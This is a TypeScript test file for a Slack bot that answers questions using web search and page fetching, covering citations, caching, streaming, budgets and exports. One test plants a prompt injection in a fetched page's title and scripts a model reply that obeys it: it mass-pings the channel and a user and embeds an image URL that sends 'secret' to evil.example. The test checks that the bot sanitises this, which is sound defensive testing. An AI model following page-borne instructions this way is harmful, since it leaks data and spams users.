import { expect, test } from 'vitest';
import type { ScriptedPart } from '../../playground/model/types.ts';
import * as web from '../support/web-parts.ts';
import { it, overBoth } from './carriers.ts';
import { startPressing } from './pressing.ts';
import { skein, startCalmWorld } from './slash.ts';
import { ana, ben, finishedReply, general, query, set, startWorld, type World } from './world.ts';

const ON = { DEFAULT_WEB: 'on' };
const HEIGHT: readonly ScriptedPart[] = [
  { text: 'I look that up. ' },
  web.searchCall('srvtoolu_1'),
  web.searchResult('srvtoolu_1'),
  web.cited('The tower is 330 m tall'),
  { text: '. Its first platform is at ' },
  web.cited('57 m', web.PAGE),
  { text: '.' },
];

interface Sent {
  readonly tools?: readonly Record<string, unknown>[];
  readonly messages: readonly { role: string; content: readonly Record<string, unknown>[] }[];
}
const sent = (world: World, at = -1) => world.model.calls().at(at)?.body as unknown as Sent;

it('a searched answer has numbers in its text, a list of sources below, and its price in the line under it', async (mode) => {
  const world = await startWorld({
    mode,
    env: { ...ON, DEFAULT_FOOTER: 'on' },
    script: () => ({ text: '', parts: HEIGHT }),
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).toContain('330 m tall [1]. Its first platform is at 57 m [2].');
  expect(reply.visible).toMatch(/Sources.*\[1\] \[?Eiffel Tower - Wikipedia.*en\.wikipedia\.org/s);
  expect(JSON.stringify(reply.blocks)).toContain('https://en.wikipedia.org/wiki/Eiffel_Tower');
  expect(reply.visible).toMatch(/\[2\] .*toureiffel\.paris/);
  expect(reply.visible).toContain('1 search · ');
  const entries = () => query(world, 'select web_searches from skein.usage where cost_nano > 10000000');
  await expect.poll(entries).toEqual([{ web_searches: 1 }]);
  // Plain calls of the newest versions, and nothing fetched that one of our own tools named.
  expect(sent(world).tools).toEqual([
    { type: 'web_search_20260318', name: 'web_search', max_uses: 5, allowed_callers: ['direct'] },
    expect.objectContaining({
      type: 'web_fetch_20260318',
      url_sources: expect.objectContaining({ client_tool_results: { type: 'none' } }),
    }),
  ]);
});

it('what was found goes back unchanged with the next question, and the numbers and the list of sources do not', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: (question) => (question.includes('tall') ? { text: '', parts: HEIGHT } : { text: 'Yes.' }),
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await finishedReply(world, general, ts);
  await world.restart();
  world.slack.say(ben, general, '@skein sure?', { threadTs: ts });
  await finishedReply(world, general, ts, 2);
  const answer = sent(world).messages[1]?.content ?? [];
  expect(answer.map(({ type, text }) => text ?? type)).toEqual([
    'I look that up. ',
    'server_tool_use',
    'web_search_tool_result',
    'The tower is 330 m tall',
    '. Its first platform is at ',
    '57 m',
    '.',
  ]);
  const result = HEIGHT[2];
  expect(answer[2]).toEqual(result !== undefined && 'result' in result ? result.result : null);
  expect(answer[3]).toMatchObject({ citations: [{ encrypted_index: 'Eo8BCioIAhgBIiQyYjQ0OWJmZi1lNm' }] });
  expect(sent(world).tools).toEqual(sent(world, 0).tools);
});

it('a searched answer in a native stream has the same words, numbers and sources', async (mode) => {
  const world = await startWorld({
    mode,
    env: { ...ON, DEFAULT_STREAMING: 'native' },
    model: { tokensPerSecond: 20 },
    script: () => ({ text: '', parts: HEIGHT }),
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  const reply = await finishedReply(world, general, ts);
  expect(world.slack.calls('chat.startStream')).toHaveLength(1);
  expect(reply.visible).toContain('330 m tall [1]. Its first platform is at 57 m [2].');
  expect(reply.visible.match(/Sources/g)).toHaveLength(1);
  expect(reply.visible).toMatch(/\[2\] \[?The official site/);
  expect(JSON.stringify(reply.blocks)).toContain('https://www.toureiffel.paris/en');
});

it('the next question of a searched thread reads all that was sent before from the cache', async (mode) => {
  const world = await startWorld({
    mode,
    env: { ...ON, DEFAULT_INSTRUCTIONS: 'Be kind to everybody who asks. '.repeat(250) },
    script: (question) => (question.includes('tall') ? { text: '', parts: HEIGHT } : { text: 'Yes.' }),
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await finishedReply(world, general, ts);
  world.slack.say(ben, general, '@skein sure?', { threadTs: ts });
  await finishedReply(world, general, ts, 2);
  const [first, second] = world.model.calls().map(({ billed }) => billed);
  expect(first?.cache_creation_input_tokens).toBeGreaterThan(1000);
  expect(second?.cache_read_input_tokens).toBe(first?.cache_creation_input_tokens);
});

it('while it searches, the message says what for', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: () => ({
      text: '',
      parts: [
        web.searchCall('srvtoolu_1'),
        { ...(web.searchResult('srvtoolu_1') as { result: object }), afterMs: 4000 },
        web.cited('330 m.'),
      ],
    }),
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await world.slack.waitForMessage(
    ({ threadTs, visible }) =>
      threadTs === ts && visible.includes('Searching the web: height of the Eiffel Tower…'),
  );
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).not.toContain('Searching');
});

it('a round that pauses goes on with its own blocks as they came, and is one answer', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: (_question, { body }) =>
      (body['messages'] as unknown[]).length === 1
        ? {
            text: '',
            stopReason: 'pause_turn',
            parts: [
              web.searchCall('srvtoolu_1'),
              web.searchResult('srvtoolu_1'),
              web.searchCall('srvtoolu_2', 'its lifts'),
            ],
          }
        : { text: '', parts: [web.searchResult('srvtoolu_2'), web.cited('Five lifts.')] },
  });
  const { ts } = world.slack.say(ana, general, '@skein how many lifts has the Eiffel Tower?');
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).toContain('Five lifts. [1]');
  expect(world.model.calls()).toHaveLength(2);
  const last = sent(world).messages.at(-1);
  expect(last?.role).toBe('assistant');
  expect(last?.content.map(({ type }) => type)).toEqual([
    'server_tool_use',
    'web_search_tool_result',
    'server_tool_use',
  ]);
});

it('a page behind a pasted link is read, named below, and what could not be read is told in words', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: () => ({
      text: '',
      parts: [
        web.fetchCall('srvtoolu_1', web.PAGE.url),
        web.fetchResult('srvtoolu_1', web.PAGE),
        web.fetchCall('srvtoolu_2', 'https://intranet.example.com/x'),
        web.fetchError('srvtoolu_2', 'url_not_accessible'),
        { text: 'It is open from 9 to 23.' },
      ],
    }),
  });
  const { ts } = world.slack.say(ana, general, `@skein when is this open? <${web.PAGE.url}>`);
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).toContain('It is open from 9 to 23.');
  expect(reply.visible).toMatch(/Read: .*The official site.*toureiffel\.paris/);
  expect(reply.visible).toContain(
    'A page of intranet.example.com could not be read: it did not answer, or asks for a login.',
  );
  expect(JSON.stringify(sent(world).messages)).toContain(web.PAGE.url);
});

test.each([
  ['after a call without its result', 1, []],
  ['after a result', 2, ['server_tool_use', 'web_search_tool_result']],
  ['in a text', 4, ['server_tool_use', 'web_search_tool_result', 'text']],
] as const)('a stream that broke %s is gone on with after what is whole', (_when, afterTokens, kept) =>
  overBoth(async (mode) => {
    const world = await startWorld({
      mode,
      env: ON,
      script: (_question, { number }) =>
        number === 1
          ? {
              text: '',
              parts: [web.searchCall('srvtoolu_1'), web.searchResult('srvtoolu_1'), web.cited('330 m.')],
              fault: { kind: 'reset', afterTokens },
            }
          : { text: 'It is 330 m tall.' },
    });
    const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
    const reply = await finishedReply(world, general, ts);
    expect(reply.visible).toContain('It is 330 m tall.');
    const again = sent(world).messages;
    expect(again.at(-1)?.role).toBe('user');
    const between = again.slice(1, -1).flatMap(({ content }) => content.map(({ type }) => type));
    expect(between).toEqual(kept);
  }),
);

it('where the provider does not allow the web, the answer is written without it, which is said once', async (mode) => {
  const world = await startWorld({ mode, env: ON, script: () => ({ text: 'From memory.' }) });
  world.model.fault({
    kind: 'status',
    status: 400,
    message: 'Web search is not enabled for this organization.',
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  const first = await finishedReply(world, general, ts);
  expect(first.visible).toContain('From memory.');
  expect(first.visible).toContain('The web is switched on here, but the account with Claude');
  world.slack.say(ana, general, '@skein and now?', { threadTs: ts });
  const second = await finishedReply(world, general, ts, 2);
  expect(second.visible).not.toContain('The web is switched on');
  // It is not asked for again meanwhile.
  expect(world.model.calls()).toHaveLength(3);
  expect(sent(world).tools).toBeUndefined();
});

it('an answer that has made all its searches is finished with what is there', async (mode) => {
  const world = await startWorld({
    mode,
    env: { ...ON, DEFAULT_WEB_SEARCHES: '1' },
    script: (_question, { number }) =>
      number === 1
        ? {
            text: '',
            stopReason: 'pause_turn',
            parts: [
              web.searchCall('srvtoolu_1'),
              web.searchResult('srvtoolu_1'),
              web.searchCall('srvtoolu_2', 'more'),
            ],
          }
        : { text: 'It is 330 m tall.' },
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).toContain('It is 330 m tall.');
  expect(world.model.calls()).toHaveLength(2);
  // The tools stay, so that what they gave can be read.
  expect(sent(world)).toMatchObject({ tools: sent(world, 0).tools, tool_choice: { type: 'none' } });
  expect(JSON.stringify(sent(world).messages)).toContain('finish the answer with what is there');
});

it('a thread that the provider does not take with what was found is sent with its words alone', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: (question) => (question.includes('tall') ? { text: '', parts: HEIGHT } : { text: 'Yes.' }),
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await finishedReply(world, general, ts);
  world.model.fault({
    kind: 'status',
    status: 400,
    message: 'messages.1.content.2: Invalid `encrypted_content`',
  });
  world.slack.say(ana, general, '@skein sure?', { threadTs: ts });
  const reply = await finishedReply(world, general, ts, 2);
  expect(reply.visible).toContain('Yes.');
  expect(reply.visible).toContain('this answer was written without');
  const { tools, messages } = sent(world);
  expect(tools).toBeUndefined();
  expect(
    messages[1]?.content.every(({ type, citations }) => type === 'text' && citations === undefined),
  ).toBe(true);
});

it('what a page tells the model to do pings nobody and calls nothing', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: () => ({
      text: '',
      parts: [
        web.fetchCall('srvtoolu_1', web.PAGE.url),
        web.fetchResult('srvtoolu_1', {
          url: web.PAGE.url,
          title: '<!channel> [click](https://evil.example) @here',
        }),
        // A model that does as it is told by the page.
        {
          text: 'Attention <!channel> and <@U0BEN>: ![x](https://evil.example/?q=secret) see <https://evil.example|here>',
        },
      ],
    }),
  });
  const { ts } = world.slack.say(ana, general, `@skein when is this open? <${web.PAGE.url}>`);
  const reply = await finishedReply(world, general, ts);
  const json = JSON.stringify(reply.blocks);
  expect(json).not.toMatch(/<!channel|<@U0BEN|!\[x\]\(/);
  expect(json).not.toContain('[click](https://evil.example)');
  expect(world.model.calls()).toHaveLength(1);
});

it('a channel can be kept from the web, and hosts can be named', async (mode) => {
  const world = await startWorld({ mode, script: () => ({ text: 'Hello.' }) });
  const ask = async () => {
    const { ts } = world.slack.say(ana, general, '@skein hello?');
    await finishedReply(world, general, ts);
    return sent(world).tools;
  };
  expect(await ask()).toBeUndefined();
  await set(world, ['workspace', world.slack.team], ['web', 'on']);
  await set(world, ['workspace', world.slack.team], ['web_domains', 'only docs.python.org']);
  await set(world, ['workspace', world.slack.team], ['web_searches', '2']);
  expect(await ask()).toEqual([
    expect.objectContaining({ name: 'web_search', max_uses: 2, allowed_domains: ['docs.python.org'] }),
    expect.objectContaining({ name: 'web_fetch', allowed_domains: ['docs.python.org'] }),
  ]);
  const told = async () => (await skein(world, ana, general, 'context')).visible;
  expect(await told()).toContain('may search the web');
  await set(world, ['channel', general], ['web', 'off']);
  expect(await ask()).toBeUndefined();
  expect(await told()).not.toContain('may search the web');
});

it('a stopped answer leaves a thread that the provider takes', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: (question) =>
      question.includes('tall')
        ? {
            text: '',
            parts: [
              { text: 'I look that up. ' },
              web.searchCall('srvtoolu_1'),
              { ...(web.searchResult('srvtoolu_1') as { result: object }), afterMs: 60_000 },
            ],
          }
        : { text: 'Fine.' },
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await world.slack.waitForMessage(
    ({ threadTs, visible }) => threadTs === ts && visible.includes('Searching the web'),
  );
  world.slack.say(ana, general, '@skein stop', { threadTs: ts });
  await finishedReply(world, general, ts);
  world.slack.say(ana, general, '@skein never mind', { threadTs: ts });
  const next = await finishedReply(world, general, ts, 2);
  expect(next.visible).toContain('Fine.');
  expect(JSON.stringify(sent(world).messages)).not.toContain('server_tool_use');
});

it('a bot that ends in the middle of a search leaves the rest to another, which pays for no finished search twice', async (mode) => {
  const world = await startWorld({
    mode,
    env: ON,
    script: (_question, { number }) =>
      number === 1
        ? {
            text: '',
            parts: [
              { text: 'I look that up. ' },
              web.searchCall('srvtoolu_1'),
              web.searchResult('srvtoolu_1'),
              web.cited('It is 330 m tall'),
              web.searchCall('srvtoolu_2', 'its lifts'),
              { ...(web.searchResult('srvtoolu_2') as { result: object }), afterMs: 60_000 },
            ],
          }
        : { text: 'It is 330 m tall, and has five lifts.' },
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await world.slack.waitForMessage(
    ({ threadTs, visible }) => threadTs === ts && visible.includes('Searching the web: its lifts'),
  );
  await world.another();
  await world.bot.stop(0);
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).toContain('I look that up. It is 330 m tall [1], and has five lifts.');
  expect(reply.visible).toMatch(/\[1\] \[?Eiffel Tower - Wikipedia/);
  const again = sent(world)
    .messages.slice(1, -1)
    .flatMap(({ content }) => content.map(({ type }) => type));
  expect(again).toEqual(['text', 'server_tool_use', 'web_search_tool_result', 'text']);
  // The call that was cut is entered with what it had searched.
  const entries = () => query(world, 'select web_searches, estimated from skein.usage order by call');
  await expect.poll(entries).toEqual([
    { web_searches: 2, estimated: true },
    { web_searches: 0, estimated: false },
  ]);
  // What two owners wrote is one answer to the next question, with all of its words.
  world.slack.say(ana, general, '@skein and?', { threadTs: ts });
  await finishedReply(world, general, ts, 2);
  const answer = sent(world).messages[1]?.content ?? [];
  expect(answer.map(({ text }) => text ?? '').join('')).toBe(
    'I look that up. It is 330 m tall, and has five lifts.',
  );
});

it('another version is written anew, and each has its own sources and transcript', async (mode) => {
  const world = await startPressing({
    mode,
    env: ON,
    script: (_question, { number }) =>
      number === 1 ? { text: '', parts: HEIGHT } : number === 2 ? { text: 'About 330 m.' } : { text: 'Yes.' },
  });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  const first = await finishedReply(world, general, ts);
  await world.slack.click(ana, { channel: general, ts: first.ts, actionId: 'reply_regenerate' });
  const second = await world.slack.waitForMessage(
    ({ ts: at, visible }) => at === first.ts && visible.includes('Version 2 of 2'),
  );
  expect(second.visible).not.toContain('Sources');
  await world.slack.click(ana, { channel: general, ts: first.ts, actionId: 'reply_version_earlier' });
  const back = await world.slack.waitForMessage(
    ({ ts: at, visible }) => at === first.ts && visible.includes('Version 1 of 2'),
  );
  expect(back.visible).toMatch(/\[1\] \[?Eiffel Tower - Wikipedia/);
  world.slack.say(ana, general, '@skein sure?', { threadTs: ts });
  await finishedReply(world, general, ts, 2);
  expect(sent(world).messages[1]?.content.map(({ type }) => type)).toContain('web_search_tool_result');
});

it('a budget that does not pay for searches pays for an answer without them, and the answer says so', async (mode) => {
  const world = await startWorld({
    mode,
    env: { ...ON, DEFAULT_MAX_TOKENS: '300' },
    script: () => ({ text: 'From memory.' }),
  });
  await set(world, ['workspace', world.slack.team], ['budget_day', '$0.10']);
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  const reply = await finishedReply(world, general, ts);
  expect(reply.visible).toContain('From memory.');
  expect(reply.visible).toContain('does not pay for what searches of the web may come to');
  expect(sent(world).tools).toBeUndefined();
  // Nobody is told that the budget is used up.
  expect(await query(world, 'select 1 from skein.budget_alerts')).toEqual([]);
});

it('what was looked up is in an export without what only the provider reads, and is forgotten with its question', async (mode) => {
  const world = await startCalmWorld({ mode, env: ON, script: () => ({ text: '', parts: HEIGHT }) });
  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
  await finishedReply(world, general, ts);
  await skein(world, ana, general, 'export');
  const file = await world.slack.waitForMessage(
    ({ channel, files }) => channel === 'D0ANA' && files.length > 0,
  );
  const bytes = world.slack.workspace.files.get(file.files[0] ?? '')?.base64 ?? '';
  const exported = Buffer.from(bytes, 'base64').toString();
  expect(JSON.parse(exported).conversations[0].messages[1].looked_up).toEqual([
    {
      search: 'height of the Eiffel Tower',
      found: [
        { title: 'Eiffel Tower - Wikipedia', url: 'https://en.wikipedia.org/wiki/Eiffel_Tower' },
        web.PAGE,
      ],
    },
  ]);
  expect(exported).not.toContain('encrypted');

  const asked = await skein(world, ana, general, 'forget');
  await world.slack.click(ana, { channel: general, ts: asked.ts, actionId: 'command_forget' });
  await world.slack.waitForMessage(({ ts: at, visible }) => at === asked.ts && visible.includes('Forgotten'));
  const left = await query(
    world,
    `select reply::text from skein.answer_blocks
     union all select id::text from skein.messages where blocks is not null`,
  );
  expect(left).toEqual([]);
});
